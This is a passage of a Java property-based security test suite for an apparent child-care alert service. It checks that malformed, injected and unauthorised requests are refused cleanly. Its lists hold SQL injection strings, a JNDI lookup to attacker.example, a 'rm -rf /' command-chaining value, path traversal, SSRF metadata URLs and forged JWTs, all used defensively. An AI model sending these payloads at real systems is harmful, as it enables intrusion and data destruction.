package org.practicealerts.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AddLifecycleHook;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.awaitility.Awaitility;
import org.practicealerts.events.EventJson;
import org.practicealerts.support.DevSigningKey;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile input against every endpoint of the running stack, generated property by property: malformed JSON,
 * wrong types, missing and oversized fields, unknown enum values, injection strings, impossible dates, bad query
 * and path parameters, missing, forged, expired and unsigned tokens, the wrong role, and other teams' alerts.
 * Every answer must be a 4xx RFC 9457 problem detail naming the problem (never a 5xx or a stack trace), and the
 * system's stored documents and topics must be exactly as before.
 */
@AddLifecycleHook(NeedsServiceJars.class)
class HostileInputTest {

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "{\"$gt\":\"\"}", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "a b", "x;rm -rf /", "%00", "\u0000", "ユニコード", "",
            "Robert'); DROP TABLE alerts;--");
    private static final List<String> BAD_DATES = List.of("2026-02-30", "31/12/2026", "2026-13-01", "yesterday",
            "2026-12-01T25:00:00Z", "2026-12-01[Europe/Londres]", "+10000-01-01x");
    private static final List<String> GARBAGE = List.of("{", "not json", "{\"a\":", "\"just a string\"", "[]",
            "[{}]", "{\"x\":1}}", "{'single':'quotes'}");

    private static RunningStack stack;
    private static String northAlert;
    private static Map<String, Object> baseline;

    enum Kind { TEXT, ID, ENUM, INT, DATE, LIST, BOOL, EMAIL, URL, DURATION }

    /** One field of a request body: what it holds, whether it is required, its limits. */
    record Field(String path, Kind kind, boolean required, int max, int min, List<String> allowed) {
        static Field text(String path, boolean required, int max) {
            return new Field(path, Kind.TEXT, required, max, 0, List.of());
        }

        static Field of(String path, Kind kind, boolean required) {
            return new Field(path, kind, required, 0, 0, List.of());
        }

        static Field range(String path, int min, int max) {
            return new Field(path, Kind.INT, false, max, min, List.of());
        }

        static Field oneOf(String path, boolean required, String... allowed) {
            return new Field(path, Kind.ENUM, required, 0, 0, List.of(allowed));
        }

        static Field list(String path, boolean required, int max) {
            return new Field(path, Kind.LIST, required, max, 0, List.of());
        }

        String leaf() {
            String[] parts = path.split("\\.");
            return parts[parts.length - 1].replaceAll("\\d+", "");
        }
    }

    /** An endpoint that takes a JSON body, with a valid body and the person who may send it. */
    record BodyEndpoint(String service, String method, String path, String person, String role, String validBody,
                        List<Field> fields) {
    }

    /** A request the system must refuse. */
    record Attack(String what, String service, String method, String path, String token, String contentType,
                  String body, Set<Integer> expected, String namedField) {
        @Override
        public String toString() {
            return what + ": " + method + " " + path + (body == null ? "" : " " + abbreviate(body));
        }
    }

    @BeforeContainer
    static void startTheStackAndRaiseOneAlert() {
        stack = RunningStack.shared();
        String raise = "{\"childRef\":\"HOSTILE-1\",\"planType\":\"CHILD_WE_CARE_FOR\",\"teamId\":\"team-north\","
                + "\"primaryCategory\":\"STATUTORY_VISIT\",\"summary\":\"s\",\"impactOnChild\":\"i\",\"childsVoice\":\"v\"}";
        RunningStack.Answer a = RunningStack.send("POST", stack.base("alert-service") + "/api/v1/alerts", stack.token("iro-1", "IRO"),
                "application/json", raise);
        assertThat(a.status()).as(a.body()).isEqualTo(201);
        northAlert = EventJson.mapper().readTree(a.body()).get("id").asString();
        baseline = stack.settledFingerprint();
    }

    @AfterContainer
    static void stopTheStack() {
        RunningStack.stopIfStarted();
    }

    @Property(tries = 250, seed = "20261124")
    void malformedBodiesAreRefusedNamingTheFieldAndChangeNothing(@ForAll("bodyAttacks") Attack attack) {
        assertRefusedAndNothingChanged(attack);
    }

    @Property(tries = 80, seed = "20261124")
    void badQueryAndPathParametersAreRefusedCleanly(@ForAll("parameterAttacks") Attack attack) {
        assertRefusedAndNothingChanged(attack);
    }

    @Property(tries = 150, seed = "20261124")
    void callersWithoutAValidTokenOrTheRightRoleAreRefused(@ForAll("authAttacks") Attack attack) {
        assertRefusedAndNothingChanged(attack);
    }

    /** A Teams webhook on an internal address or off the allowed hosts is refused naming the field, and saves nothing. */
    @Example
    void aTeamsWebhookOnAnInternalAddressOrAnotherHostIsRefusedAndChangesNothing() {
        String person = stack.base("alert-service") + "/api/v1/directory/people/hostile-webhook";
        for (String url : List.of("https://127.0.0.1/hook", "https://10.0.0.7/hook", "https://169.254.169.254/latest",
                "https://[::1]/hook", "https://192.168.1.20/hook", "https://attacker.example.com.evil/hook",
                "http://prod-00.uksouth.logic.azure.com/hook")) {
            assertRefusedAndNothingChanged(new Attack("internal or unlisted webhook " + url, "alert-service", "PUT",
                    person, stack.token("admin-1", "ADMIN"), "application/json",
                    "{\"displayName\":\"X\",\"roles\":[\"SOCIAL_WORKER\"],\"teamsWebhook\":\"" + url + "\"}",
                    Set.of(400), "teamsWebhook"));
        }
    }

    /** Email addresses and webhook URLs (a webhook is a bearer secret) are for admins: a social worker sees neither. */
    @Example
    void aSocialWorkerReadingTheDirectorySeesNamesAndRolesButNoAddressOrWebhook() {
        RunningStack.Answer asWorker = stack.call("alert-service", "GET", "/api/v1/directory/people",
                stack.token("sw-north", "SOCIAL_WORKER"), null);
        assertThat(asWorker.status()).isEqualTo(200);
        assertThat(asWorker.body()).contains("\"displayName\"").doesNotContain("@demo-council.example")
                .doesNotContain("https://");
        assertThat(stack.call("alert-service", "GET", "/api/v1/directory/people", stack.token("admin-1", "ADMIN"),
                null).body()).contains("@demo-council.example");
    }

    /**
     * Raise, respond, erase, across the running stack: no store (every MongoDB document, every topic's raw bytes, dead
     * letters included) ever holds the text in the clear; an entitled reader reads it in the alert and the chronology
     * until the erasure and "[text erased]" in both after it; the reports' counts do not change. (It changes the system
     * on purpose, so it takes the suite's baseline again.)
     */
    @Example
    void anErasureLeavesTheTextReadableNowhereAndTheCountsAsTheyWere() {
        String marker = "Zq" + java.util.UUID.randomUUID().toString().replace("-", "").substring(0, 10);
        String raise = "{\"childRef\":\"ERASE-1\",\"planType\":\"CHILD_WE_CARE_FOR\",\"teamId\":\"team-north\","
                + "\"primaryCategory\":\"STATUTORY_VISIT\",\"summary\":\"Summary " + marker + "\","
                + "\"impactOnChild\":\"Impact " + marker + "\",\"childsVoice\":\"Voice " + marker + "\"}";
        RunningStack.Answer raised = stack.call("alert-service", "POST", "/api/v1/alerts", stack.token("iro-1", "IRO"),
                raise);
        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        String id = raised.json().get("id").asString();
        RunningStack.Answer responded = stack.call("alert-service", "POST", "/api/v1/alerts/" + id + "/responses",
                stack.token("tm-north", "TEAM_MANAGER"), "{\"response\":\"Response " + marker + "\"}");
        assertThat(responded.status()).as(responded.body()).isEqualTo(200);
        String viewer = stack.token("viewer-1", "REPORT_VIEWER");
        String chronology = "/api/v1/reports/children/ERASE-1/chronology";
        Awaitility.await("the response in the chronology").atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                assertThat(stack.call("reporting-service", "GET", chronology, viewer, null).body())
                        .contains("Response " + marker));
        String weekly = stack.call("reporting-service", "GET", "/api/v1/reports/weekly", viewer, null).body();
        assertThat(stack.call("alert-service", "GET", "/api/v1/alerts/" + id, stack.token("iro-1", "IRO"), null)
                .body()).contains("Summary " + marker);
        stack.settledFingerprint();
        assertThat(stack.everyStoredDocument()).contains("sealed:v1:" + id).doesNotContain(marker);
        assertThat(stack.everyRecordOnEveryTopic()).contains("sealed:v1:" + id).doesNotContain(marker);

        RunningStack.Answer erased = stack.call("alert-service", "POST", "/api/v1/admin/erasures",
                stack.token("admin-1", "ADMIN"), "{\"recordId\":\"" + id + "\",\"reason\":\"REQ-1: the wrong case\"}");
        assertThat(erased.status()).as(erased.body()).isEqualTo(201);

        assertThat(stack.call("alert-service", "GET", "/api/v1/alerts/" + id, stack.token("iro-1", "IRO"), null)
                .body()).contains("[text erased]").doesNotContain(marker);
        Awaitility.await("the chronology to read the erasure").atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                assertThat(stack.call("reporting-service", "GET", chronology, viewer, null).body())
                        .contains("[text erased]").doesNotContain(marker));
        assertThat(stack.call("reporting-service", "GET", "/api/v1/reports/weekly", viewer, null).body()
                .replaceAll("\"generatedAt\":\"[^\"]*\"", ""))
                .isEqualTo(weekly.replaceAll("\"generatedAt\":\"[^\"]*\"", ""));
        baseline = stack.settledFingerprint();
    }

    /**
     * The embedded default's dev tokens, simulated clock and fault switches are for the machine it runs on: nothing
     * of it answers on the machine's network addresses.
     */
    @Example
    void theEmbeddedDefaultAnswersOnLoopbackOnly() throws java.net.SocketException {
        List<java.net.InetAddress> external = new java.util.ArrayList<>();
        for (java.net.NetworkInterface n : java.util.Collections.list(java.net.NetworkInterface.getNetworkInterfaces())) {
            if (n.isUp() && !n.isLoopback()) {
                java.util.Collections.list(n.getInetAddresses()).stream()
                        .filter(a -> a instanceof java.net.Inet4Address).forEach(external::add);
            }
        }
        org.junit.jupiter.api.Assumptions.assumeFalse(external.isEmpty(), "this machine has no network address");
        for (int port : stack.ports()) {
            assertThat(answers("127.0.0.1", port)).as("port %d on loopback", port).isTrue();
            for (java.net.InetAddress address : external) {
                assertThat(answers(address.getHostAddress(), port)).as("port %d on %s", port, address).isFalse();
            }
        }
    }

    private static boolean answers(String host, int port) {
        try (java.net.Socket socket = new java.net.Socket()) {
            socket.connect(new java.net.InetSocketAddress(host, port), 1000);
            return true;
        } catch (java.io.IOException refused) {
            return false;
        }
    }

    @Example
    void anotherTeamsManagerCannotReadOrActOnAnAlertAndIsNotToldItExists() {
        String south = stack.token("tm-south", "TEAM_MANAGER");
        String alert = stack.base("alert-service") + "/api/v1/alerts/" + northAlert;
        List<String[]> actions = List.of(new String[] {"GET", alert, null},
                new String[] {"POST", alert + "/acknowledgement", null},
                new String[] {"POST", alert + "/responses", "{\"response\":\"not mine\"}"},
                new String[] {"POST", alert + "/resolution", "{\"outcome\":\"closed by someone else\"}"},
                new String[] {"POST", alert + "/escalations", "{\"reason\":\"RESPONSE_INADEQUATE\",\"note\":\"n\"}"},
                new String[] {"POST", alert + "/notes", "{\"text\":\"hello\"}"},
                new String[] {"POST", alert + "/withdrawal", "{\"reason\":\"r\"}"},
                new String[] {"POST", alert + "/reassignment", "{\"toPersonId\":\"tm-south\",\"reason\":\"mine now\"}"});
        for (String[] a : actions) {
            assertRefusedAndNothingChanged(new Attack("another team's alert", "alert-service", a[0], a[1], south,
                    "application/json", a[2], Set.of(404), null));
        }
    }

    // ---- generators ----

    @Provide
    Arbitrary<Attack> bodyAttacks() {
        List<Arbitrary<Attack>> all = new ArrayList<>();
        for (BodyEndpoint e : bodyEndpoints()) {
            String token = stack.token(e.person(), e.role());
            for (Field f : e.fields()) {
                all.add(mutations(f).map(m -> m.apply(e, token)));
            }
            all.add(Arbitraries.of(GARBAGE).map(g -> new Attack("not the expected JSON", e.service(), e.method(),
                    e.path(), token, "application/json", g, Set.of(400), null)));
            all.add(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12).map(name -> {
                ObjectNode body = (ObjectNode) EventJson.mapper().readTree(e.validBody());
                body.put("zz" + name, "x");
                return new Attack("unknown field", e.service(), e.method(), e.path(), token, "application/json",
                        body.toString(), Set.of(400), "zz" + name);
            }));
            all.add(Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded")
                    .map(ct -> new Attack("wrong content type", e.service(), e.method(), e.path(), token, ct,
                            e.validBody(), Set.of(415), null)));
        }
        return Arbitraries.oneOf(all);
    }

    /** What may be done to one field so that the body is certainly invalid. */
    interface Mutation {
        Attack apply(BodyEndpoint e, String token);
    }

    private static Arbitrary<Mutation> mutations(Field f) {
        List<Arbitrary<Mutation>> m = new ArrayList<>();
        if (f.required()) {
            m.add(Arbitraries.just((Mutation) (e, t) -> attack("missing " + f.path(), e, t, edit(e.validBody(), f.path(), null),
                    f)));
        }
        m.add(Arbitraries.of("{\"nested\":1}", f.kind() == Kind.LIST ? "\"not a list\"" : "[1,2]")
                .map(v -> (Mutation) (e, t) -> attack("wrong type for " + f.path(), e, t,
                        edit(e.validBody(), f.path(), EventJson.mapper().readTree(v)), f)));
        switch (f.kind()) {
            case TEXT -> m.add(Arbitraries.integers().between(f.max() + 1, f.max() + 64)
                    .map(n -> (Mutation) (e, t) -> attack("oversized " + f.path(), e, t,
                            edit(e.validBody(), f.path(), text("x".repeat(n))), f)));
            case ID -> m.add(Arbitraries.of(INJECTIONS).map(v -> (Mutation) (e, t) -> attack("injection in " + f.path(), e, t,
                    edit(e.validBody(), f.path(), text(v)), f)));
            case ENUM -> m.add(Arbitraries.strings().withCharRange('A', 'Z').ofMinLength(3).ofMaxLength(20)
                    .filter(v -> !f.allowed().contains(v))
                    .map(v -> (Mutation) (e, t) -> attack("unknown value for " + f.path(), e, t,
                            edit(e.validBody(), f.path(), text(v)), f)));
            case INT -> m.add(Arbitraries.oneOf(Arbitraries.integers().between(-1000, f.min() - 1),
                            Arbitraries.integers().between(f.max() + 1, 100_000))
                    .map(v -> (Mutation) (e, t) -> attack("out of range " + f.path(), e, t,
                            edit(e.validBody(), f.path(), EventJson.mapper().readTree(String.valueOf(v))), f)));
            case DATE -> m.add(Arbitraries.of(BAD_DATES).map(v -> (Mutation) (e, t) -> attack("impossible date " + f.path(),
                    e, t, edit(e.validBody(), f.path(), text(v)), f)));
            case LIST -> m.add(Arbitraries.just((Mutation) (e, t) -> attack("too many in " + f.path(), e, t,
                    edit(e.validBody(), f.path(), tooMany(e.validBody(), f)), f)));
            case BOOL -> m.add(Arbitraries.of("maybe", "yes please").map(v -> (Mutation) (e, t) -> attack(
                    "not a boolean " + f.path(), e, t, edit(e.validBody(), f.path(), text(v)), f)));
            case EMAIL -> m.add(Arbitraries.of("not-an-email", "a@@b.example", "a b@c.example").map(v -> (Mutation) (e, t) ->
                    attack("not an email " + f.path(), e, t, edit(e.validBody(), f.path(), text(v)), f)));
            case URL -> m.add(Arbitraries.of("http://teams.example/hook", "javascript:alert(1)", "ftp://x.example/")
                    .map(v -> (Mutation) (e, t) -> attack("not an https URL " + f.path(), e, t,
                            edit(e.validBody(), f.path(), text(v)), f)));
            case DURATION -> m.add(Arbitraries.of("tomorrow", "P1X", "1 day").map(v -> (Mutation) (e, t) -> attack(
                    "not a duration " + f.path(), e, t, edit(e.validBody(), f.path(), text(v)), f)));
            default -> throw new IllegalArgumentException(f.kind().name());
        }
        return Arbitraries.oneOf(m);
    }

    @Provide
    Arbitrary<Attack> parameterAttacks() {
        String token = stack.token("admin-1", "ADMIN");
        String alerts = stack.base("alert-service");
        List<Attack> attacks = new ArrayList<>();
        for (String q : List.of("stage=0", "stage=11", "stage=abc", "status=NOPE", "overdue=maybe", "page=-1",
                "page=10001", "size=0", "size=201", "team=a%20b", "childRef=%3Cscript%3E", "assignedTo=you",
                "raisedBy=someone")) {
            attacks.add(get("list filter " + q, "alert-service", alerts + "/api/v1/alerts?" + q, token, 400));
        }
        for (String q : List.of("from=garbage&add=5", "from=2026-12-01&add=-1", "from=2026-12-01&add=367",
                "from=2026-12-01&add=abc", "from=2026-02-30&add=1")) {
            attacks.add(get("working days " + q, "alert-service", alerts + "/api/v1/calendar/working-days?" + q,
                    token, 400));
        }
        for (String q : List.of("from=2026-01-01&to=2040-01-01", "from=2026-12-01&to=2026-01-01", "from=x&to=y")) {
            attacks.add(get("holidays " + q, "alert-service", alerts + "/api/v1/calendar/holidays?" + q, token, 400));
        }
        for (String q : List.of("raisedAt=garbage&stage=1&planType=CHILD_WE_CARE_FOR",
                "raisedAt=2026-12-01T09:00:00Z&stage=0&planType=CHILD_WE_CARE_FOR",
                "raisedAt=2026-12-01T09:00:00Z&stage=1&planType=NOPE",
                "raisedAt=2026-12-01T09:00:00%2B25:00&stage=1&planType=CHILD_WE_CARE_FOR")) {
            attacks.add(get("policy timeline " + q, "alert-service", alerts + "/api/v1/policy/timeline?" + q, token,
                    400));
        }
        for (String q : List.of("limit=0", "limit=1001", "limit=abc", "alertId=%27%20or%201%3D1")) {
            attacks.add(get("read audit " + q, "alert-service", alerts + "/api/v1/admin/reads?" + q, token, 400));
            attacks.add(get("due deadlines " + q, "escalation-service",
                    stack.base("escalation-service") + "/api/v1/admin/deadlines?" + q, token, 400));
        }
        for (String id : List.of("%27%20OR%201%3D1", "..%2F..%2Fetc%2Fpasswd", "x".repeat(300), "%3Cscript%3E",
                "00000000-0000-0000-0000-000000000000")) {
            attacks.add(new Attack("alert id " + abbreviate(id), "alert-service", "GET",
                    alerts + "/api/v1/alerts/" + id, token, null, null, Set.of(400, 404), null));
            attacks.add(new Attack("person id " + abbreviate(id), "alert-service", "GET",
                    alerts + "/api/v1/directory/people/" + id, token, null, null, Set.of(400, 404), null));
            attacks.add(new Attack("command on alert id " + abbreviate(id), "alert-service", "POST",
                    alerts + "/api/v1/alerts/" + id + "/notes", token, "application/json", "{\"text\":\"t\"}",
                    Set.of(400, 404), null));
        }
        if (stack.runs("reporting-service")) {
            String reports = stack.base("reporting-service") + "/api/v1/reports";
            for (String q : List.of("/weekly?asOf=garbage", "/weekly?asOf=2026-02-30", "/monthly?month=2026-13",
                    "/monthly?month=last", "/quarterly?quarter=2026-Q5", "/quarterly?quarter=Q1-2026",
                    "/central-log?format=pdf", "/central-log?from=yesterday", "/central-log?status=NOPE",
                    "/central-log?planType=%3Cscript%3E", "/children/HOSTILE-1/chronology?format=exe")) {
                attacks.add(get("report " + q, "reporting-service", reports + q, token, 400));
            }
            attacks.add(new Attack("chronology child ref", "reporting-service", "GET",
                    reports + "/children/%27%20OR%201%3D1/chronology", token, null, null, Set.of(400, 404), null));
        }
        if (stack.runs("notification-service")) {
            String n = stack.base("notification-service");
            String me = stack.token("tm-north", "TEAM_MANAGER");
            attacks.add(get("someone else's inbox", "notification-service", n + "/api/v1/notifications?recipient=tm-south",
                    me, 403));
            attacks.add(new Attack("inbox of an injected id", "notification-service", "GET",
                    n + "/api/v1/notifications?recipient=%27%20OR%201%3D1", me, null, null, Set.of(400, 403), null));
            attacks.add(get("inbox limit", "notification-service", n + "/api/v1/notifications?recipient=me&limit=abc",
                    me, 400));
            for (String id : List.of("%27%20OR%201%3D1", "x".repeat(300), "no-such-notification")) {
                attacks.add(new Attack("acknowledge " + abbreviate(id), "notification-service", "POST",
                        n + "/api/v1/notifications/" + id + "/acknowledge", me, null, null, Set.of(400, 404), null));
                attacks.add(new Attack("retry " + abbreviate(id), "notification-service", "POST",
                        n + "/api/v1/admin/notifications/" + id + "/retry", token, null, null, Set.of(400, 404, 409),
                        null));
            }
            attacks.add(new Attack("delivery log of an injected id", "notification-service", "GET",
                    n + "/api/v1/alerts/%3Cscript%3E/notifications", token, null, null, Set.of(400, 404), null));
            attacks.add(get("mail viewer limit", "notification-service", n + "/dev/mail?limit=abc", token, 400));
        }
        return Arbitraries.of(attacks);
    }

    @Provide
    Arbitrary<Attack> authAttacks() {
        List<Attack> attacks = new ArrayList<>();
        RSAKey forger = forgerKey();
        for (BodyEndpoint e : bodyEndpoints()) {
            String url = e.path();
            attacks.add(new Attack("no token", e.service(), e.method(), url, null, "application/json", e.validBody(),
                    Set.of(401), null));
            attacks.add(new Attack("garbage token", e.service(), e.method(), url, "not.a.jwt", "application/json",
                    e.validBody(), Set.of(401), null));
            attacks.add(new Attack("forged token", e.service(), e.method(), url,
                    DevSigningKey.issue(forger, e.person(), List.of(e.role()), Duration.ofMinutes(5)),
                    "application/json", e.validBody(), Set.of(401), null));
            attacks.add(new Attack("expired token", e.service(), e.method(), url,
                    stack.expiredToken(e.person(), e.role()), "application/json", e.validBody(), Set.of(401), null));
            attacks.add(new Attack("unsigned token", e.service(), e.method(), url, unsigned(e.person(), e.role()),
                    "application/json", e.validBody(), Set.of(401), null));
            // Raising and commending need a raiser's role; admin endpoints need ADMIN; alert commands need any
            // product role (who may act on which alert is the domain's decision, tested by the example below).
            boolean raiserOnly = url.endsWith("/api/v1/alerts") || url.endsWith("/api/v1/commendations");
            String wrongRole = e.role().equals("ADMIN") ? "TEAM_MANAGER" : raiserOnly ? "SOCIAL_WORKER" : "METRICS";
            attacks.add(new Attack("role " + wrongRole, e.service(), e.method(), url,
                    stack.token(e.person(), wrongRole), "application/json", e.validBody(), Set.of(403), null));
        }
        if (stack.runs("reporting-service")) {
            String reporting = stack.base("reporting-service");
            for (String report : List.of("/weekly", "/monthly", "/quarterly", "/central-log",
                    "/children/HOSTILE-1/chronology")) {
                attacks.add(get("report as an IRO", "reporting-service", reporting + "/api/v1/reports" + report,
                        stack.token("iro-1", "IRO"), 403));
                attacks.add(get("report without a token", "reporting-service",
                        reporting + "/api/v1/reports" + report, null, 401));
                attacks.add(get("report with an expired token", "reporting-service",
                        reporting + "/api/v1/reports" + report, stack.expiredToken("viewer-1", "REPORT_VIEWER"), 401));
            }
            attacks.add(new Attack("rebuild as a team manager", "reporting-service", "POST",
                    reporting + "/api/v1/admin/rebuild", stack.token("tm-north", "TEAM_MANAGER"), null, null,
                    Set.of(403), null));
        }
        if (stack.runs("notification-service")) {
            String n = stack.base("notification-service");
            attacks.add(get("inbox without a token", "notification-service", n + "/api/v1/notifications?recipient=me",
                    null, 401));
            attacks.add(get("inbox with a forged token", "notification-service",
                    n + "/api/v1/notifications?recipient=me",
                    DevSigningKey.issue(forger, "tm-north", List.of("TEAM_MANAGER"), Duration.ofMinutes(5)), 401));
            attacks.add(get("failed deliveries as a team manager", "notification-service",
                    n + "/api/v1/admin/notifications/failed", stack.token("tm-north", "TEAM_MANAGER"), 403));
            attacks.add(new Attack("retry as an IRO", "notification-service", "POST",
                    n + "/api/v1/admin/notifications/x/retry", stack.token("iro-1", "IRO"), null, null, Set.of(403),
                    null));
            attacks.add(get("delivery log as an IRO", "notification-service",
                    n + "/api/v1/alerts/" + northAlert + "/notifications", stack.token("iro-1", "IRO"), 403));
            attacks.add(get("mail viewer without a token", "notification-service", n + "/dev/mail", null, 401));
        }
        for (String service : List.of("alert-service", "escalation-service", "reporting-service",
                "notification-service")) {
            if (!stack.runs(service)) {
                continue;
            }
            attacks.add(get("metrics as an IRO", service, stack.base(service) + "/actuator/prometheus",
                    stack.token("iro-1", "IRO"), 403));
            attacks.add(get("metrics without a token", service, stack.base(service) + "/actuator/prometheus",
                    null, 401));
        }
        attacks.add(get("deadlines as a team manager", "escalation-service",
                stack.base("escalation-service") + "/api/v1/admin/deadlines", stack.token("tm-north", "TEAM_MANAGER"),
                403));
        attacks.add(get("read audit as a team manager", "alert-service",
                stack.base("alert-service") + "/api/v1/admin/reads", stack.token("tm-north", "TEAM_MANAGER"), 403));
        return Arbitraries.of(attacks);
    }

    private static List<BodyEndpoint> bodyEndpoints() {
        String a = stack.base("alert-service");
        String alert = a + "/api/v1/alerts/" + northAlert;
        List<BodyEndpoint> e = new ArrayList<>();
        e.add(new BodyEndpoint("alert-service", "POST", a + "/api/v1/alerts", "iro-1", "IRO",
                "{\"childRef\":\"HOSTILE-2\",\"planType\":\"CHILD_WE_CARE_FOR\",\"teamId\":\"team-north\","
                        + "\"primaryCategory\":\"STATUTORY_VISIT\",\"summary\":\"s\",\"impactOnChild\":\"i\","
                        + "\"childsVoice\":\"v\",\"startStage\":1,\"categories\":[\"STATUTORY_VISIT\"]}",
                List.of(Field.of("childRef", Kind.ID, true),
                        Field.oneOf("planType", true, "CHILD_WE_CARE_FOR", "CHILD_PROTECTION", "CHILD_IN_NEED"),
                        Field.of("teamId", Kind.ID, true), Field.text("primaryCategory", true, 64),
                        Field.text("summary", true, 4000), Field.text("impactOnChild", true, 4000),
                        Field.text("childsVoice", true, 4000), Field.range("startStage", 1, 10),
                        Field.list("categories", false, 13))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/responses", "tm-north", "TEAM_MANAGER",
                "{\"response\":\"r\",\"actions\":[{\"description\":\"d\",\"ownerId\":\"sw-north\","
                        + "\"dueDate\":\"2026-12-20\"}]}",
                List.of(Field.text("response", true, 8000), Field.list("actions", false, 20),
                        Field.text("actions.0.description", true, 1000), Field.of("actions.0.ownerId", Kind.ID, true),
                        Field.of("actions.0.dueDate", Kind.DATE, true))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/further-actions", "iro-1", "IRO",
                "{\"request\":\"r\"}", List.of(Field.text("request", true, 4000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/escalations", "iro-1", "IRO",
                "{\"reason\":\"RESPONSE_INADEQUATE\",\"toStage\":2,\"note\":\"n\"}",
                List.of(Field.oneOf("reason", true, "RESPONSE_INADEQUATE", "BYPASS"), Field.range("toStage", 2, 10),
                        Field.text("note", false, 4000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/resolution", "iro-1", "IRO",
                "{\"outcome\":\"o\"}", List.of(Field.text("outcome", true, 4000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/review", "iro-1", "IRO",
                "{\"reviewDate\":\"2026-12-20\",\"note\":\"n\",\"toStage\":2}",
                List.of(Field.of("reviewDate", Kind.DATE, false), Field.text("note", false, 4000),
                        Field.range("toStage", 2, 10))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/withdrawal", "iro-1", "IRO",
                "{\"reason\":\"r\"}", List.of(Field.text("reason", true, 2000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/cafcass-referral", "iro-1", "IRO",
                "{\"referredOn\":\"2026-11-20\",\"note\":\"n\"}",
                List.of(Field.of("referredOn", Kind.DATE, false), Field.text("note", false, 4000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/partnership-referral", "iro-1", "IRO",
                "{\"note\":\"n\"}", List.of(Field.text("note", false, 4000))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/reassignment", "tm-north", "TEAM_MANAGER",
                "{\"toPersonId\":\"tm-duty\",\"reason\":\"r\"}",
                List.of(Field.of("toPersonId", Kind.ID, true), Field.text("reason", true, 500))));
        e.add(new BodyEndpoint("alert-service", "POST", alert + "/notes", "tm-north", "TEAM_MANAGER",
                "{\"text\":\"t\"}", List.of(Field.text("text", true, 8000))));
        e.add(new BodyEndpoint("alert-service", "POST", a + "/api/v1/commendations", "iro-1", "IRO",
                "{\"childRef\":\"HOSTILE-C\",\"planType\":\"CHILD_WE_CARE_FOR\",\"teamId\":\"team-north\","
                        + "\"commendedPersonIds\":[\"sw-north\"],\"category\":\"STATUTORY_VISIT\",\"text\":\"t\"}",
                List.of(Field.of("childRef", Kind.ID, true),
                        Field.oneOf("planType", true, "CHILD_WE_CARE_FOR", "CHILD_PROTECTION", "CHILD_IN_NEED"),
                        Field.of("teamId", Kind.ID, true), Field.list("commendedPersonIds", true, 10),
                        Field.text("category", true, 64), Field.text("text", true, 4000))));
        e.add(new BodyEndpoint("alert-service", "PUT", a + "/api/v1/directory/people/hostile-person", "admin-1",
                "ADMIN", "{\"displayName\":\"X\",\"email\":\"x@demo-council.example\",\"roles\":[\"SOCIAL_WORKER\"],"
                        + "\"teamId\":\"team-north\",\"managerId\":\"tm-north\",\"active\":true,"
                        + "\"preference\":\"EMAIL\",\"teamsWebhook\":\"https://teams.example/hook\"}",
                List.of(Field.text("displayName", true, 200), Field.of("email", Kind.EMAIL, false),
                        Field.of("teamsWebhook", Kind.URL, false), Field.list("roles", true, 0),
                        Field.of("teamId", Kind.ID, false), Field.of("active", Kind.BOOL, false),
                        Field.oneOf("preference", false, "EMAIL", "TEAMS", "BOTH", "DIGEST"))));
        e.add(new BodyEndpoint("alert-service", "PUT", a + "/api/v1/directory/teams/hostile-team", "admin-1", "ADMIN",
                "{\"name\":\"N\",\"managerId\":\"tm-north\"}",
                List.of(Field.text("name", true, 200), Field.of("managerId", Kind.ID, false),
                        Field.of("teamsWebhook", Kind.URL, false))));
        e.add(new BodyEndpoint("alert-service", "PUT", a + "/api/v1/directory/covers/hostile-cover", "admin-1",
                "ADMIN", "{\"absentPersonId\":\"tm-north\",\"coverPersonId\":\"tm-duty\",\"from\":\"2026-12-01\","
                        + "\"to\":\"2026-12-05\",\"reason\":\"r\"}",
                List.of(Field.of("absentPersonId", Kind.ID, true), Field.of("coverPersonId", Kind.ID, true),
                        Field.of("from", Kind.DATE, true), Field.of("to", Kind.DATE, true),
                        Field.text("reason", false, 500))));
        e.add(new BodyEndpoint("alert-service", "POST", a + "/api/v1/calendar/days", "admin-1", "ADMIN",
                "{\"date\":\"2026-12-29\",\"name\":\"Closure\",\"source\":\"CLOSURE\"}",
                List.of(Field.of("date", Kind.DATE, true), Field.text("name", true, 200),
                        Field.oneOf("source", true, "CLOSURE", "BANK_HOLIDAY"))));
        e.add(new BodyEndpoint("alert-service", "POST", a + "/api/v1/admin/clock", "admin-1", "ADMIN",
                "{\"advanceBy\":\"PT1S\"}", List.of(Field.of("advanceBy", Kind.DURATION, false))));
        return e;
    }

    // ---- checks ----

    private static void assertRefusedAndNothingChanged(Attack attack) {
        RunningStack.Answer a = RunningStack.send(attack.method(), attack.path(), attack.token(), attack.contentType(), attack.body());
        assertThat(a.status()).as("%s -> %s", attack, a.body()).isIn(attack.expected());
        assertThat(a.contentType()).as("%s content type", attack).startsWith("application/problem+json");
        JsonNode problem = EventJson.mapper().readTree(a.body());
